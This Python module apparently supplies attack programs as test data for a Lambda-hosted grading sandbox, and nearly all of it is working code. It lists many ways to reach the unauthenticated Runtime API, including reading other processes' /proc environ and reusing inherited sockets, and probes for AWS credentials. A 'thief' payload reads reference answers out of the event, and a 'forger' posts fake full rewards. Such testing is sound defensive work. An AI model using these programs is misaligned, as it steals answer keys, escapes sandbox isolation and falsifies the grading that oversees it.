"""Programs that attack the Lambda Runtime API, as data: ways to reach it, and what to do there.

The Runtime API has no authentication (docs.aws.amazon.com/lambda/latest/dg/runtimes-api.html): while a call is being
served, GET .../invocation/next hands out its event once more, and POST .../invocation/ID/response is its reply.
"""

from __future__ import annotations

from typing import NamedTuple

_COMMON = """
import json, os, sys
NEXT = "/2018-06-01/runtime/invocation/next"
RESPONSE = "/2018-06-01/runtime/invocation/%s/response"

def address():
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    return host, int(port)

def raw(method, path, body):
    head = f"{method} {path} HTTP/1.0\\r\\nHost: runtime\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n"
    return head.encode() + body

def whole(receive):
    return b"".join(iter(lambda: receive(65536), b""))

def field(head, name):
    for line in head.split(b"\\r\\n"):
        key, _, value = line.partition(b":")
        if key.lower() == name:
            return value.strip().decode()
"""

_OVER_A_SOCKET = """
import socket
def exchange(method, path, body):
    with socket.create_connection(address(), 3) as connection:
        connection.sendall(raw(method, path, body))
        return whole(connection.recv)
"""


class Way(NamedTuple):
    """A way to the Runtime API.

    Attributes:
        code: Python that defines ``exchange(method, path, body)``, which returns a response, head and body; ``PORT``
            stands for the port of the Runtime API.
        naive: the handler of `naive_handler` that it works against.
    """

    code: str
    naive: str = "in_subprocess"


WAYS = {
    "urllib": Way("""
import urllib.request
def exchange(method, path, body):
    url = "http://%s:%d" % address() + path
    with urllib.request.urlopen(urllib.request.Request(url, body or None, method=method), timeout=3) as reply:
        return str(reply.headers).replace("\\n", "\\r\\n").encode() + reply.read()
"""),
    "http.client": Way("""
import http.client
def exchange(method, path, body):
    connection = http.client.HTTPConnection(*address(), timeout=3)
    connection.request(method, path, body)
    reply = connection.getresponse()
    return str(reply.headers).replace("\\n", "\\r\\n").encode() + reply.read()
"""),
    "socket": Way(_OVER_A_SOCKET),
    "system calls of libc": Way("""
import ctypes, socket
def exchange(method, path, body):
    libc = ctypes.CDLL(None, use_errno=True)
    host, port = address()
    name = (2).to_bytes(2, sys.byteorder) + port.to_bytes(2, "big") + socket.inet_aton(host) + bytes(8)
    descriptor = libc.socket(2, 1, 0)
    if libc.connect(descriptor, name, 16) != 0:
        raise OSError(ctypes.get_errno(), "connect")
    request = raw(method, path, body)
    libc.send(descriptor, request, len(request), 0)
    def receive(size):
        buffer = ctypes.create_string_buffer(size)
        received = libc.recv(descriptor, buffer, size, 0)
        return buffer.raw[:max(0, received)]
    return whole(receive)
"""),
    "address from the environment of another process": Way(
        """
def address():
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                names = dict(item.partition(b"=")[::2] for item in file.read().split(b"\\0"))
        except OSError:
            continue
        host, _, port = names.get(b"AWS_LAMBDA_RUNTIME_API", b"").decode().partition(":")
        if int(pid) != os.getpid() and port == "PORT":  # other functions of this machine are not meant
            return host, PORT
    raise LookupError
"""
        + _OVER_A_SOCKET
    ),
    "address guessed": Way('\ndef address():\n    return "127.0.0.1", PORT\n' + _OVER_A_SOCKET),
    "asyncio": Way("""
import asyncio
async def talk(method, path, body):
    reader, writer = await asyncio.open_connection(*address())
    writer.write(raw(method, path, body))
    reply = await reader.read()
    writer.close()
    return reply
def exchange(method, path, body):
    return asyncio.run(talk(method, path, body))
"""),
    "curl in a subprocess": Way("""
import subprocess
def exchange(method, path, body):
    url = "http://%s:%d" % address() + path
    sent = ["--data-binary", "@-"] if body else []
    command = ["curl", "--silent", "--max-time", "3", "--include", "--request", method, *sent, url]
    return subprocess.run(command, input=body, stdout=subprocess.PIPE, check=True).stdout
"""),
    "forked child": Way("""
import socket
def exchange(method, path, body):
    reading, writing = os.pipe()
    if os.fork() == 0:
        with socket.create_connection(address(), 3) as connection:
            connection.sendall(raw(method, path, body))
            os.write(writing, whole(connection.recv))
        os._exit(0)
    os.close(writing)
    reply = whole(lambda size: os.read(reading, size))
    os.wait()
    return reply
"""),
    "forked child without a pipe": Way("""
import mmap, socket
def exchange(method, path, body):
    shared = mmap.mmap(-1, 1 << 16)
    if os.fork() == 0:
        with socket.create_connection(address(), 3) as connection:
            connection.sendall(raw(method, path, body))
            shared.write(whole(connection.recv))
        os._exit(0)
    os.wait()
    return shared[:].rstrip(b"\\0")
"""),
    "thread": Way("""
import socket, threading
def exchange(method, path, body):
    replies = []
    def talk():
        with socket.create_connection(address(), 3) as connection:
            connection.sendall(raw(method, path, body))
            replies.append(whole(connection.recv))
    thread = threading.Thread(target=talk)
    thread.start()
    thread.join()
    return replies[0]
"""),
    "connection inherited from the runtime client": Way(
        """
import http.client, socket
def exchange(method, path, body):
    for descriptor in range(1024):
        try:
            connection = socket.socket(fileno=os.dup(descriptor))
            if connection.getpeername() == address():
                connection.settimeout(3)
                connection.sendall(raw(method, path, body).replace(b"HTTP/1.0", b"HTTP/1.1"))
                reply = http.client.HTTPResponse(connection, method=method)
                reply.begin()
                return str(reply.headers).replace("\\n", "\\r\\n").encode() + reply.read()
        except OSError:
            pass
    raise LookupError
""",
        naive="in_process",
    ),
}

_FOUND = """
print("found" if found else "nothing")
"""

ENVIRONMENTS = {
    "os.environ": "import os\nfound = any(name.startswith('AWS') for name in os.environ)" + _FOUND,
    "getenv of libc": "import ctypes\nfound = ctypes.CDLL(None).getenv(b'AWS_LAMBDA_RUNTIME_API')" + _FOUND,
    "initial block of its own": """
try:
    with open("/proc/self/environ", "rb") as file:
        found = b"AWS_" in file.read()
except OSError:
    found = False
"""
    + _FOUND,
    "initial blocks of those above it": """
import os
found, pid = False, os.getppid()
try:
    while pid:
        with open(f"/proc/{pid}/environ", "rb") as file:
            found |= b"AWS_LAMBDA_RUNTIME_API" in file.read()
        with open(f"/proc/{pid}/status") as file:
            pid = next(int(line.split()[1]) for line in file if line.startswith("PPid:"))
except OSError:
    pass
"""
    + _FOUND,
}
"""Programs that look for the function's credentials and the Runtime API's address, and print ``found``."""

_THEFT = """
given = sys.stdin.read()
try:
    event = json.loads(exchange("GET", NEXT, b"").partition(b"\\r\\n\\r\\n")[2])
    suites = [sample["reference_answer"] for sample in event]
    print(*(suite["outputs"][suite["inputs"].index(given)] for suite in suites if given in suite["inputs"]))
except Exception:
    print("nothing stolen")
"""

_FORGERY = """
try:
    head, _, body = exchange("GET", NEXT, b"").partition(b"\\r\\n\\r\\n")
    reply = [{"id": sample["id"], "aggregate_reward_score": 1.0, "forged": True} for sample in json.loads(body)]
    path = RESPONSE % field(head, b"lambda-runtime-aws-request-id")
    exchange("POST", path, json.dumps(reply).encode())
except Exception:
    pass
print("nothing forged")
"""


def thief(way: Way, port: int) -> str:
    """Return a program that prints the expected output, read out of the event."""
    return _COMMON + way.code.replace("PORT", str(port)) + _THEFT


def forger(way: Way, port: int) -> str:
    """Return a program that sends the caller a full reward for each sample, and then prints a wrong answer."""
    return _COMMON + way.code.replace("PORT", str(port)) + _FORGERY
